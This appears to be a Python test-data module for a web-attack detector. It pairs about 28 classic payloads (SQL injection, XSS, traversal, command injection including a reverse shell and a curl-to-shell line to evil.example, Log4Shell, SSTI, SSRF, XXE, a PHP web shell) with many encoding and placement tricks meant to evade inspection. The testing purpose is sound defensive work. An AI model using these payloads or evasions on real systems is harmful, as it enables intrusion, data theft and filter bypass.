"""The evasion suite's material: classic attacks and the ways an attacker hides them (issue 14).

A plain module (no pytest, no mitmproxy): tests/test_evasion.py sends every family x every attack through
the real addons and a real mitmdump; scripts/evasion_report.py prints which pairs a model lets through.

    CLASSIC     {name: Attack(payload, param)}: >= 24 classic attacks, each with its natural carrier (a
                query parameter); `plain(attack)` is that request.
    FAMILIES    {name: family}: a family is a function payload -> (method, target, headers, body) that
                hides the payload the way an attacker would (padding, another header, a charset, a
                Content-Encoding, an encoding of the payload itself, another part of the body ...).
    requests()  every (family, attack, request) of the suite, in a fixed order.

Every family takes every attack. Where a family needs the payload in a form that cannot hold some
characters (a path segment cannot hold `/`, a query or a cookie holds no raw space or `;`), they are
percent-encoded as a browser would; a family that rewrites something the payload lacks (SQL comments
around SQL keywords, overlong UTF-8 for `/` and `.`) still rewrites what is there (spaces) or leaves
the payload percent-encoded, so it is never weaker than the plain request. No combination is left out.

Padding comes in two letters: "A" (what scanners send; also a hex digit, so a model may fold a run of it
into one shape token) and "z" (no shape folds it: the padding's own n-grams share the payload's window).

The families are the attacker's view: none is softened to make a model pass. What a request is
*refused* with is up to the proxy: 403 for an attack, or 413/431 when it is beyond the inspection
limits (never forwarded uninspected, so not a bypass either).
"""

from __future__ import annotations

import base64
import binascii
import brotli
import gzip
import json
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from urllib.parse import quote
from xml.sax.saxutils import escape as xml_escape

try:  # zstd: the standard library from 3.14 on, backports.zstd (a mitmproxy dependency) before
    from compression import zstd  # type: ignore[import-not-found]
except ImportError:  # pragma: no cover - depends on the Python version
    from backports import zstd  # type: ignore[import-not-found,no-redef]

Request = tuple[str, str, list[tuple[str, str]], bytes]
Family = Callable[[str], Request]


@dataclass(frozen=True)
class Attack:
    payload: str
    param: str  # its natural carrier: the query parameter it is sent in plainly
    kind: str  # sqli, xss, traversal, cmdi, jndi, ssti, ssrf, xxe, ...


CLASSIC: dict[str, Attack] = {
    "sqli_tautology": Attack("1' OR '1'='1", "id", "sqli"),
    "sqli_union": Attack("1 UNION SELECT username, password FROM users--", "id", "sqli"),
    "sqli_time": Attack("1' AND SLEEP(5)-- -", "id", "sqli"),
    "sqli_stacked": Attack("1; DROP TABLE users--", "id", "sqli"),
    "sqli_error": Attack("1' AND extractvalue(1,concat(0x7e,(SELECT version())))-- -", "id", "sqli"),
    "sqli_login": Attack("admin'--", "user", "sqli"),
    "xss_script": Attack("<script>alert(document.cookie)</script>", "q", "xss"),
    "xss_img": Attack("<img src=x onerror=alert(1)>", "q", "xss"),
    "xss_svg": Attack("<svg/onload=alert(document.domain)>", "q", "xss"),
    "xss_js_uri": Attack("javascript:alert(document.cookie)", "next", "xss"),
    "xss_attr_break": Attack("\"><script>fetch('//evil.example/?c='+document.cookie)</script>", "name", "xss"),
    "traversal_unix": Attack("../../../../../../etc/passwd", "file", "traversal"),
    "traversal_windows": Attack("..\\..\\..\\..\\windows\\win.ini", "file", "traversal"),
    "lfi_php_filter": Attack("php://filter/convert.base64-encode/resource=../config.php", "page", "lfi"),
    "cmdi_semicolon": Attack("127.0.0.1; cat /etc/passwd", "host", "cmdi"),
    "cmdi_subshell": Attack("$(curl -s http://evil.example/x.sh | sh)", "host", "cmdi"),
    "cmdi_pipe": Attack("x | nc evil.example 4444 -e /bin/sh", "host", "cmdi"),
    "shellshock": Attack("() { :; }; /bin/bash -c 'cat /etc/passwd'", "q", "cmdi"),
    "log4shell": Attack("${jndi:ldap://evil.example:1389/a}", "q", "jndi"),
    "log4shell_nested": Attack("${${lower:j}ndi:${lower:l}${lower:d}ap://evil.example/a}", "q", "jndi"),
    "ssti_jinja": Attack("{{config.__class__.__init__.__globals__['os'].popen('id').read()}}", "name", "ssti"),
    "ssti_spel": Attack("${T(java.lang.Runtime).getRuntime().exec('id')}", "name", "ssti"),
    "ssrf_aws": Attack("http://169.254.169.254/latest/meta-data/iam/security-credentials/", "url", "ssrf"),
    "ssrf_gcp": Attack("http://metadata.google.internal/computeMetadata/v1/instance/", "url", "ssrf"),
    "ssrf_file": Attack("file:///etc/passwd", "url", "ssrf"),
    "xxe": Attack('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
                  "xml", "xxe"),
    "php_code": Attack("<?php system($_GET['c']); ?>", "q", "rce"),
    "ldap_injection": Attack("*)(uid=*))(|(uid=*", "user", "ldap"),
}

UA = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
BROWSER: list[tuple[str, str]] = [
    ("Host", "shop.example"),
    ("User-Agent", UA),
    ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
    ("Accept-Language", "en-US,en;q=0.5"),
    ("Accept-Encoding", "gzip, deflate, br"),
]
JSON_TYPE = "application/json"
FORM_TYPE = "application/x-www-form-urlencoded"


def q(s: str) -> str:
    """Percent-encode everything but unreserved characters (what a browser's form does, %20 for space)."""
    return quote(s, safe="")


def plain(attack: Attack) -> Request:
    """The attack sent plainly: its payload percent-encoded in its natural query parameter."""
    return "GET", f"/search?{attack.param}={q(attack.payload)}", list(BROWSER), b""


def _hdrs(*extra: tuple[str, str], drop: str = "") -> list[tuple[str, str]]:
    base = [h for h in BROWSER if h[0].lower() != drop.lower()]
    return base + list(extra)


def _get(query: str, *extra: tuple[str, str], path: str = "/search") -> Request:
    return "GET", f"{path}?{query}", _hdrs(*extra), b""


def _post(body: bytes, ctype: str, *extra: tuple[str, str], path: str = "/api/items") -> Request:
    return "POST", path, _hdrs(("Content-Type", ctype), *extra), body


def _json_doc(payload: str) -> dict:
    return {"item": "shoes", "qty": 2, "q": payload}


def _json_bytes(payload: str) -> bytes:
    return json.dumps(_json_doc(payload)).encode()


# --- padding and dilution ----------------------------------------------------------------------------

WORDS = (
    "the customer asked whether the blue running shoes were still available in a larger size and if "
    "the store could ship them before the weekend because she was planning to take part in a charity "
    "race with her friends from work and wanted to break them in first she also mentioned that the last "
    "pair she bought had worn out quickly on the heel and asked for advice about which model would last "
)


def words(n: int) -> str:
    """About `n` characters of ordinary English words."""
    return (WORDS * (n // len(WORDS) + 1))[:n].rsplit(" ", 1)[0]


def _pad(n: int, ch: str = "A") -> str:
    return ch * n


def pad_query(n: int) -> Family:
    def family(payload: str) -> Request:
        return _get(f"pad={_pad(n)}&q={q(payload)}")
    return family


def pad_query_same(n: int, ch: str = "A") -> Family:
    def family(payload: str) -> Request:
        return _get(f"q={_pad(n, ch)}{q(' ' + payload)}")
    return family


def pad_json(n: int) -> Family:
    def family(payload: str) -> Request:
        return _post(json.dumps({"pad": _pad(n), **_json_doc(payload)}).encode(), JSON_TYPE)
    return family


def pad_json_same(n: int, ch: str = "A") -> Family:
    def family(payload: str) -> Request:
        return _post(json.dumps(_json_doc(_pad(n, ch) + " " + payload)).encode(), JSON_TYPE)
    return family


def pad_form(n: int) -> Family:
    def family(payload: str) -> Request:
        return _post(f"pad={_pad(n)}&q={q(payload)}".encode(), FORM_TYPE, path="/login")
    return family


def pad_form_same(n: int, ch: str = "A") -> Family:
    def family(payload: str) -> Request:
        return _post(f"comment={_pad(n, ch)}{q(' ' + payload)}".encode(), FORM_TYPE, path="/login")
    return family


def words_query(payload: str) -> Request:
    return _get(f"q={q(words(4096) + ' ' + payload)}")


def words_json(payload: str) -> Request:
    return _post(_json_bytes(words(4096) + " " + payload), JSON_TYPE)


def words_form(payload: str) -> Request:
    return _post(f"comment={q(words(4096) + ' ' + payload)}".encode(), FORM_TYPE, path="/contact")


# --- headers the old detector never read (one family per header) ------------------------------------

# (header, how the payload is written into its value). Raw where a server reads the value as text (a
# Log4Shell logger, a template); percent-encoded inside URLs, as a browser would.
HEADER_FORMS: dict[str, Callable[[str], str]] = {
    "X-Api-Version": lambda p: p,
    "Accept-Language": lambda p: p,
    "X-Foo": lambda p: p,
    "Referer": lambda p: f"https://shop.example/search?q={q(p)}",
    "Origin": lambda p: p,
    "X-Forwarded-Host": lambda p: p,
    "X-Forwarded-For": lambda p: f"203.0.113.9, {p}",
    "X-Real-IP": lambda p: p,
    "Forwarded": lambda p: f'for="{p}"',
    "User-Agent": lambda p: p,
    "Authorization": lambda p: f"Bearer {p}",
    "Accept": lambda p: p,
    "X-Requested-With": lambda p: p,
    "If-None-Match": lambda p: f'"{p}"',
    "Cache-Control": lambda p: p,
    "X-Original-URL": lambda p: f"/admin?q={q(p)}",
    "X-HTTP-Method-Override": lambda p: p,
    "Sec-CH-UA": lambda p: f'"Chromium";v="{p}"',
    "True-Client-IP": lambda p: p,
    "X-Client-Data": lambda p: p,
}


def in_header(name: str) -> Family:
    form = HEADER_FORMS[name]

    def family(payload: str) -> Request:
        return "GET", "/search?q=shoes", _hdrs((name, form(payload)), drop=name), b""
    return family


def content_type_param(payload: str) -> Request:
    """In a parameter of Content-Type (a Struts2/Log4Shell vector), percent-free but quoted."""
    return _post(b"item=shoes&qty=2", f'{FORM_TYPE}; charset=utf-8; x="{payload}"', path="/login")


def content_type_whole(payload: str) -> Request:
    """The whole Content-Type (Struts2 CVE-2017-5638's vector: an OGNL payload in Content-Type)."""
    return _post(b"item=shoes&qty=2", payload, path="/login")


def cookie(payload: str) -> Request:
    return _get("q=shoes", ("Cookie", f"session=8f14e45fceea167a5a36dedd4bea2543; pref={q(payload)}"))


def cookie_raw(payload: str) -> Request:
    """Unencoded, as a script sets it (`;` would end the pair, so it is percent-encoded only)."""
    return _get("q=shoes", ("Cookie", "session=8f14e45fceea167a5a36dedd4bea2543; pref=" + payload.replace(";", "%3B")))


# --- invisible characters, bad bytes ----------------------------------------------------------------


def _sprinkle(payload: str, ch: str) -> str:
    """`ch` after every second character: inside every keyword."""
    return "".join(c + (ch if i % 2 == 1 else "") for i, c in enumerate(payload))


def invisible_json(ch: str, ascii_escape: bool) -> Family:
    def family(payload: str) -> Request:
        return _post(json.dumps(_json_doc(_sprinkle(payload, ch)), ensure_ascii=ascii_escape).encode(), JSON_TYPE)
    return family


def zwsp_query(payload: str) -> Request:
    return _get(f"q={q(_sprinkle(payload, chr(0x200B)))}")


def invalid_utf8_json(payload: str) -> Request:
    """One latin-1 byte (not UTF-8) in another value of the same JSON body."""
    return _post(b'{"note":"caf\xe9 au lait",' + _json_bytes(payload)[1:], JSON_TYPE)


def invalid_utf8_inside(payload: str) -> Request:
    """One invalid byte inside the payload (a decoder that drops bad bytes restores it)."""
    body = _json_bytes(payload)
    mid = body.index(b'"q": "') + 6 + len(payload.encode()) // 2
    return _post(body[:mid] + b"\xff" + body[mid:], JSON_TYPE)


# --- charsets --------------------------------------------------------------------------------------


def json_charset(codec: str, bom: bytes = b"", declared: str | None = None) -> Family:
    def family(payload: str) -> Request:
        ctype = JSON_TYPE + (f"; charset={declared}" if declared else "")
        return _post(bom + json.dumps(_json_doc(payload)).encode(codec), ctype)
    return family


def form_ibm037(payload: str) -> Request:
    """A form whose bytes are IBM037 (EBCDIC), as `charset=ibm037` says (IIS/.NET decode it)."""
    return _post(f"item=shoes&q={payload}".encode("cp037"), f"{FORM_TYPE}; charset=ibm037", path="/login")


def form_ibm037_pct(payload: str) -> Request:
    """IBM037 bytes, percent-encoded: the request-encoding bypass of ASP.NET (Dalili, 2017)."""
    def enc(s: str) -> str:
        return "".join(f"%{b:02X}" for b in s.encode("cp037"))
    return _post(f"{enc('item')}={enc('shoes')}&{enc('q')}={enc(payload)}".encode(), f"{FORM_TYPE}; charset=ibm037",
                 path="/login")


def json_utf7(payload: str) -> Request:
    return _post(json.dumps(_json_doc(payload)).encode("utf-7"), f"{JSON_TYPE}; charset=utf-7")


def form_utf16(payload: str) -> Request:
    return _post(f"item=shoes&q={payload}".encode("utf-16-le"), f"{FORM_TYPE}; charset=utf-16le", path="/login")


def json_declared(ctype: str) -> Family:
    def family(payload: str) -> Request:
        return _post(_json_bytes(payload), ctype)
    return family


def json_undeclared(payload: str) -> Request:
    """JSON with no Content-Type at all."""
    return "POST", "/api/items", _hdrs(), _json_bytes(payload)


# --- Content-Encodings -------------------------------------------------------------------------------


def _gzip_members(data: bytes) -> bytes:
    """Two gzip members: a benign document, then the payload's (a decoder reading one member sees none)."""
    return gzip.compress(b'{"item":"shoes"}\n', mtime=0) + gzip.compress(data, mtime=0)


ENCODERS: dict[str, tuple[str, Callable[[bytes], bytes]]] = {
    "gzip": ("gzip", lambda b: gzip.compress(b, mtime=0)),
    "gzip_multimember": ("gzip", _gzip_members),
    "deflate": ("deflate", zlib.compress),
    "deflate_raw": ("deflate", lambda b: (lambda c: c.compress(b) + c.flush())(zlib.compressobj(wbits=-15))),
    "br": ("br", brotli.compress),
    "zstd": ("zstd", zstd.compress),
    "gzip_then_br": ("gzip, br", lambda b: brotli.compress(gzip.compress(b, mtime=0))),
}


def encoded_body(name: str) -> Family:
    coding, enc = ENCODERS[name]

    def family(payload: str) -> Request:
        doc = _json_bytes(payload)
        if name == "gzip_multimember":  # NDJSON: the two members' documents, one per line
            return _post(enc(doc), "application/x-ndjson", ("Content-Encoding", coding))
        return _post(enc(doc), JSON_TYPE, ("Content-Encoding", coding))
    return family


# --- multipart ---------------------------------------------------------------------------------------


def _multipart(parts: list[tuple[str, bytes]], boundary: str) -> bytes:
    """Parts given as (header lines, content), CRLF framed."""
    out = b""
    for head, content in parts:
        out += f"--{boundary}\r\n{head}\r\n\r\n".encode() + content + b"\r\n"
    return out + f"--{boundary}--\r\n".encode()


def multipart_field(payload: str) -> Request:
    body = _multipart([('Content-Disposition: form-data; name="title"', b"shoes"),
                       ('Content-Disposition: form-data; name="q"', payload.encode())], "b0undary")
    return _post(body, "multipart/form-data; boundary=b0undary", path="/upload")


def multipart_dup_boundary(payload: str) -> Request:
    """Two boundary parameters: the body uses the second (a parser that takes the first sees no parts)."""
    body = _multipart([('Content-Disposition: form-data; name="q"', payload.encode())], "real")
    return _post(body, "multipart/form-data; boundary=decoy; boundary=real", path="/upload")


def multipart_png(payload: str) -> Request:
    """A file part declared image/png whose bytes are the payload's text."""
    body = _multipart([('Content-Disposition: form-data; name="avatar"; filename="me.png"\r\nContent-Type: image/png',
                        payload.encode())], "b0undary")
    return _post(body, "multipart/form-data; boundary=b0undary", path="/upload")


def multipart_filename(payload: str) -> Request:
    name = payload.replace('"', "%22").replace("\\", "%5C")  # a quoted-string cannot hold `"` raw
    body = _multipart([(f'Content-Disposition: form-data; name="file"; filename="{name}"\r\nContent-Type: text/plain',
                        b"hello")], "b0undary")
    return _post(body, "multipart/form-data; boundary=b0undary", path="/upload")


def multipart_b64_part(payload: str) -> Request:
    """A part with Content-Transfer-Encoding: base64."""
    body = _multipart([('Content-Disposition: form-data; name="q"\r\nContent-Transfer-Encoding: base64',
                        base64.b64encode(payload.encode()))], "b0undary")
    return _post(body, "multipart/form-data; boundary=b0undary", path="/upload")


def multipart_utf16_part(payload: str) -> Request:
    body = _multipart([('Content-Disposition: form-data; name="q"\r\nContent-Type: text/plain; charset=utf-16le',
                        payload.encode("utf-16-le"))], "b0undary")
    return _post(body, "multipart/form-data; boundary=b0undary", path="/upload")


# --- encodings of the payload itself -----------------------------------------------------------------


def b64(s: str) -> str:
    return base64.b64encode(s.encode()).decode()


def base64_query(payload: str) -> Request:
    return _get(f"data={q(b64(payload))}")


def base64_twice(payload: str) -> Request:
    return _get(f"data={q(b64(b64(payload)))}")


def base64_path(payload: str) -> Request:
    return "GET", f"/api/render/{base64.urlsafe_b64encode(payload.encode()).decode().rstrip('=')}", _hdrs(), b""


def base64_json(payload: str) -> Request:
    return _post(json.dumps({"item": "shoes", "data": b64(payload)}).encode(), JSON_TYPE)


def hex_query(payload: str) -> Request:
    return _get(f"data={binascii.hexlify(payload.encode()).decode()}")


def percent_all(s: str) -> str:
    """Every byte as %XX, letters too."""
    return "".join(f"%{b:02X}" for b in s.encode())


def pct_double(payload: str) -> Request:
    return _get(f"q={q(q(payload))}")


def pct_triple(payload: str) -> Request:
    return _get(f"q={q(q(q(payload)))}")


def pct_all_double(payload: str) -> Request:
    return _get(f"q={q(percent_all(payload))}")


def pct_u(payload: str) -> Request:
    """IIS's %uXXXX for every character."""
    return _get("q=" + "".join(f"%u{ord(c):04X}" for c in payload))


def html_entities(payload: str) -> Request:
    ent = "".join(f"&#x{ord(c):x};" if not c.isalnum() else c for c in payload)
    return _get(f"q={q(ent)}")


def html_entities_json(payload: str) -> Request:
    ent = "".join(f"&#{ord(c)};" for c in payload)
    return _post(_json_bytes(ent), JSON_TYPE)


def json_uescape(payload: str) -> Request:
    """Every character of the JSON string as \\uXXXX."""
    esc = "".join(f"\\u{ord(c):04x}" for c in payload)
    return _post(b'{"item": "shoes", "q": "' + esc.encode() + b'"}', JSON_TYPE)


def mixed_case(payload: str) -> Request:
    return _get(f"q={q(''.join(c.upper() if i % 2 else c.lower() for i, c in enumerate(payload)))}")


SQL_KEYWORDS = ("union", "select", "from", "sleep", "drop", "table", "and", "or", "extractvalue", "concat", "version")


def sql_comments(payload: str) -> Request:
    """MySQL version comments around SQL keywords and `/**/` for every space (what SQL reads as whitespace)."""
    out = []
    for w in payload.split(" "):
        out.append(f"/*!50000{w}*/" if w.lower() in SQL_KEYWORDS else w)
    text = "/**/".join(out)
    for kw in SQL_KEYWORDS:  # inside keywords glued to other text, e.g. "SLEEP(5)"
        text = text.replace(kw.upper() + "(", f"/*!{kw.upper()}*/(")
    return _get(f"q={q(text)}")


def overlong_utf8(payload: str) -> Request:
    """`/` as %c0%af and `.` as %c0%ae (overlong UTF-8, IIS/Tomcat traversal), the rest percent-encoded."""
    return _get("q=" + "".join({"/": "%c0%af", ".": "%c0%ae"}.get(c) or q(c) for c in payload))


def fullwidth_json(payload: str) -> Request:
    """ASCII as its full-width form (U+FF01-FF5E): NFKC or a best-fit mapping restores it."""
    fw = "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in payload)
    return _post(json.dumps(_json_doc(fw), ensure_ascii=False).encode(), JSON_TYPE)


def tabs_for_spaces(payload: str) -> Request:
    return _get(f"q={q(payload.replace(' ', chr(9)))}")


def newlines_for_spaces(payload: str) -> Request:
    return _get(f"q={q(payload.replace(' ', chr(10)))}")


def null_byte(payload: str) -> Request:
    """A NUL before the payload (C-string checks stop there)."""
    return _get(f"q=shoes%00{q(payload)}")


# --- where in the request -------------------------------------------------------------------------------


def json_value(payload: str) -> Request:
    return _post(_json_bytes(payload), JSON_TYPE)


def form_field(payload: str) -> Request:
    return _post(f"user=alice&q={q(payload)}".encode(), FORM_TYPE, path="/login")


def form_plus(payload: str) -> Request:
    """`+` for spaces, the rest raw where a form allows it (how curl --data sends it)."""
    return _post(("q=" + payload.replace("%", "%25").replace("&", "%26").replace("+", "%2B").replace(" ", "+")).encode(),
                 FORM_TYPE, path="/login")


def ndjson(payload: str) -> Request:
    body = b'{"event":"view","page":"/shoes"}\n' + _json_bytes(payload) + b"\n"
    return _post(body, "application/x-ndjson", path="/collect")


def soap(payload: str) -> Request:
    body = ('<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/">'
            f"<soap:Body><Search><query>{xml_escape(payload)}</query></Search></soap:Body></soap:Envelope>")
    return _post(body.encode(), "text/xml; charset=utf-8", ("SOAPAction", '"urn:Search"'), path="/ws")


def xml_attribute(payload: str) -> Request:
    body = f'<order><item name="{xml_escape(payload, {chr(34): "&quot;"})}" qty="2"/></order>'
    return _post(body.encode(), "application/xml", path="/api/order")


def xml_cdata(payload: str) -> Request:
    return _post(f"<order><note><![CDATA[{payload}]]></note></order>".encode(), "application/xml", path="/api/order")


def _gql_string(s: str) -> str:
    return '"' + s.replace("\\", "\\\\").replace('"', '\\"') + '"'


def graphql(payload: str) -> Request:
    query = "query { products(search: " + _gql_string(payload) + ") { id name } }"
    return _post(json.dumps({"query": query}).encode(), JSON_TYPE, path="/graphql")


def graphql_raw(payload: str) -> Request:
    query = "query { products(search: " + _gql_string(payload) + ") { id name } }"
    return _post(query.encode(), "application/graphql", path="/graphql")


def graphql_variables(payload: str) -> Request:
    doc = {"query": "query($s: String) { products(search: $s) { id } }", "variables": {"s": payload}}
    return _post(json.dumps(doc).encode(), JSON_TYPE, path="/graphql")


def path_segment(payload: str) -> Request:
    return "GET", f"/api/items/{q(payload)}/details", _hdrs(), b""


def path_last(payload: str) -> Request:
    return "GET", f"/files/{q(payload)}", _hdrs(), b""


def duplicate_param(payload: str) -> Request:
    return _get(f"q=shoes&q={q(payload)}")


def param_name(payload: str) -> Request:
    return _get(f"{q(payload)}=1&page=2")


def param_array(payload: str) -> Request:
    return _get(f"filter%5Bname%5D%5B%5D={q(payload)}")


def semicolon_separator(payload: str) -> Request:
    return _get(f"page=1;q={q(payload)}")


def json_nested(depth: int) -> Family:
    def family(payload: str) -> Request:
        doc: object = {"q": payload}
        for _ in range(depth - 1):
            doc = {"a": doc}
        return _post(json.dumps(doc).encode(), JSON_TYPE)
    return family


def json_key(payload: str) -> Request:
    return _post(json.dumps({"item": "shoes", payload: "1"}).encode(), JSON_TYPE)


def json_dup_key(payload: str) -> Request:
    """A duplicate key: parsers keep the last; one that keeps the first sees "shoes"."""
    return _post(b'{"q": "shoes", "q": ' + json.dumps(payload).encode() + b"}", JSON_TYPE)


def json_array_last(payload: str) -> Request:
    doc = {"tags": [f"tag{i}" for i in range(2000)] + [payload]}
    return _post(json.dumps(doc).encode(), JSON_TYPE)


def json_in_json(payload: str) -> Request:
    """A JSON document as a string inside JSON (a common API envelope)."""
    return _post(json.dumps({"event": "search", "data": json.dumps(_json_doc(payload))}).encode(), JSON_TYPE)


def json_in_query(payload: str) -> Request:
    return _get(f"filter={q(json.dumps({'name': payload}))}")


def put_text(payload: str) -> Request:
    return "PUT", "/api/notes/7", _hdrs(("Content-Type", "text/plain")), payload.encode()


FAMILIES: dict[str, Family] = {
    "pad16k_query": pad_query(16 * 1024),
    "pad70k_query": pad_query(70 * 1024),
    "pad16k_query_same": pad_query_same(16 * 1024),
    "pad70k_query_same": pad_query_same(70 * 1024),
    "pad16k_json": pad_json(16 * 1024),
    "pad70k_json": pad_json(70 * 1024),
    "pad16k_json_same": pad_json_same(16 * 1024),
    "pad70k_json_same": pad_json_same(70 * 1024),
    "pad16k_form": pad_form(16 * 1024),
    "pad70k_form": pad_form(70 * 1024),
    "pad16k_form_same": pad_form_same(16 * 1024),
    "pad70k_form_same": pad_form_same(70 * 1024),
    # "A"s are hex digits: a model may fold them into one shape token. "z" padding cannot be folded.
    **{f"pad{k}k_{where}_same_z": same(k * 1024, "z") for k in (16, 70)
       for where, same in (("query", pad_query_same), ("json", pad_json_same), ("form", pad_form_same))},
    "words4k_query": words_query,
    "words4k_json": words_json,
    "words4k_form": words_form,
    **{f"header_{name.lower().replace('-', '_')}": in_header(name) for name in HEADER_FORMS},
    "content_type_param": content_type_param,
    "content_type_whole": content_type_whole,
    "cookie": cookie,
    "cookie_raw": cookie_raw,
    "zwsp_json": invisible_json("\u200b", ascii_escape=False),
    "zwsp_json_escaped": invisible_json("\u200b", ascii_escape=True),
    "zwsp_query": zwsp_query,
    "soft_hyphen_json": invisible_json("\u00ad", ascii_escape=True),
    "bidi_rlo_json": invisible_json("\u202e", ascii_escape=False),
    "bidi_isolate_json": invisible_json("\u2066", ascii_escape=False),
    "zwj_json": invisible_json("\u200d", ascii_escape=False),
    "bom_inside_json": invisible_json("\ufeff", ascii_escape=False),
    "invalid_utf8_json": invalid_utf8_json,
    "invalid_utf8_inside": invalid_utf8_inside,
    "utf16le_bom_json": json_charset("utf-16-le", b"\xff\xfe"),
    "utf16be_bom_json": json_charset("utf-16-be", b"\xfe\xff"),
    "utf16le_json": json_charset("utf-16-le"),
    "utf16be_json": json_charset("utf-16-be"),
    "utf16le_declared_json": json_charset("utf-16-le", declared="utf-16le"),
    "utf32le_bom_json": json_charset("utf-32-le", b"\xff\xfe\x00\x00"),
    "utf32be_json": json_charset("utf-32-be"),
    "utf8_bom_json": json_charset("utf-8", b"\xef\xbb\xbf"),
    "ibm037_form": form_ibm037,
    "ibm037_form_pct": form_ibm037_pct,
    "utf7_json": json_utf7,
    "utf16le_form": form_utf16,
    "json_as_octet_stream": json_declared("application/octet-stream"),
    "json_as_text_plain": json_declared("text/plain"),
    "json_as_form": json_declared(FORM_TYPE),
    "json_as_image": json_declared("image/png"),
    "json_no_content_type": json_undeclared,
    **{f"ce_{name}": encoded_body(name) for name in ENCODERS},
    "multipart_field": multipart_field,
    "multipart_dup_boundary": multipart_dup_boundary,
    "multipart_png": multipart_png,
    "multipart_filename": multipart_filename,
    "multipart_b64_part": multipart_b64_part,
    "multipart_utf16_part": multipart_utf16_part,
    "base64_query": base64_query,
    "base64_twice": base64_twice,
    "base64_path": base64_path,
    "base64_json": base64_json,
    "hex_query": hex_query,
    "pct_double": pct_double,
    "pct_triple": pct_triple,
    "pct_all_double": pct_all_double,
    "pct_u": pct_u,
    "html_entities": html_entities,
    "html_entities_json": html_entities_json,
    "json_uescape": json_uescape,
    "mixed_case": mixed_case,
    "sql_comments": sql_comments,
    "overlong_utf8": overlong_utf8,
    "fullwidth_json": fullwidth_json,
    "tabs_for_spaces": tabs_for_spaces,
    "newlines_for_spaces": newlines_for_spaces,
    "null_byte": null_byte,
    "json_value": json_value,
    "form_field": form_field,
    "form_plus": form_plus,
    "ndjson": ndjson,
    "soap": soap,
    "xml_attribute": xml_attribute,
    "xml_cdata": xml_cdata,
    "graphql": graphql,
    "graphql_raw": graphql_raw,
    "graphql_variables": graphql_variables,
    "path_segment": path_segment,
    "path_last": path_last,
    "duplicate_param": duplicate_param,
    "param_name": param_name,
    "param_array": param_array,
    "semicolon_separator": semicolon_separator,
    "json_nested30": json_nested(30),
    "json_key": json_key,
    "json_dup_key": json_dup_key,
    "json_array_last": json_array_last,
    "json_in_json": json_in_json,
    "json_in_query": json_in_query,
    "put_text": put_text,
}


def requests() -> Iterator[tuple[str, str, Request]]:
    """(family, attack, request) for every family and every classic attack."""
    for fname, family in FAMILIES.items():
        for aname, attack in CLASSIC.items():
            yield fname, aname, family(attack.payload)
